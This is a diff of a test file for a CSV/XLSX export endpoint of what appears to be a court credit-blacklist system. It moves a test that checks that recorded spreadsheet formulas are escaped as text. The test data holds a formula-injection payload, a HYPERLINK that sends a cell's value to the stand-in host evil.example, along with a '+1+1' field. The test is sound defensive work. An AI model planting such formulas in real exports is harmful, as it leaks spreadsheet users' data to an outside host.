@@ -121,20 +121,6 @@ describe('GET /export/<department>.csv', () => {
     expect(post.status).toBe(405);
   });
 
-  it('writes a recorded formula as text, so a spreadsheet does not run it', async () => {
-    const courts: TokenClaims = { role: 'officer', department: 'courts', sub: 'officer-export-formula' };
-    const formula = '=HYPERLINK("http://evil.example/?"&F3,"详情")';
-    const recognised = await hub.queryAs(courts, `mutation($input: RecogniseInput!) { courts { recognise(input: $input) { id } } }`, {
-      input: {
-        listKind: 'DISHONEST_JUDGMENT_DEBTOR', creditCode: organisationCode(random(4242), '440300'), subjectName: formula, facts: '+1+1',
-        validUntil: '2030-01-01', repair: { repairable: true, method: '履行义务', rectificationDeadline: '2029-01-01' }, externalReference: '（2026）粤0304执-公式',
-      },
-    });
-    expect(recognised.errors).toBeUndefined();
-    const { text } = await exportCsv(courts);
-    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&F3,""详情"")"`);
-    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
-  });
 });
 
 describe('GET /export/<department>.xlsx', () => {
@@ -171,5 +157,23 @@ describe('npm run export', () => {
     } finally {
       rmSync(dir, { recursive: true, force: true });
     }
+  });
+});
+
+// Last: the entry it records would differ between the CSV (escaped) and the XLSX (a string cell) above.
+describe('CSV and formulas', () => {
+  it('writes a recorded formula as text, so a spreadsheet does not run it', async () => {
+    const courts: TokenClaims = { role: 'officer', department: 'courts', sub: 'officer-export-formula' };
+    const formula = '=HYPERLINK("http://evil.example/?"&F3,"详情")';
+    const recognised = await hub.queryAs(courts, `mutation($input: RecogniseInput!) { courts { recognise(input: $input) { id } } }`, {
+      input: {
+        listKind: 'DISHONEST_JUDGMENT_DEBTOR', creditCode: organisationCode(random(4242), '440300'), subjectName: formula, facts: '+1+1',
+        validUntil: '2030-01-01', repair: { repairable: true, method: '履行义务', rectificationDeadline: '2029-01-01' }, externalReference: '（2026）粤0304执-公式',
+      },
+    });
+    expect(recognised.errors).toBeUndefined();
+    const { text } = await exportCsv(courts);
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&F3,""详情"")"`);
+    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
   });
 });
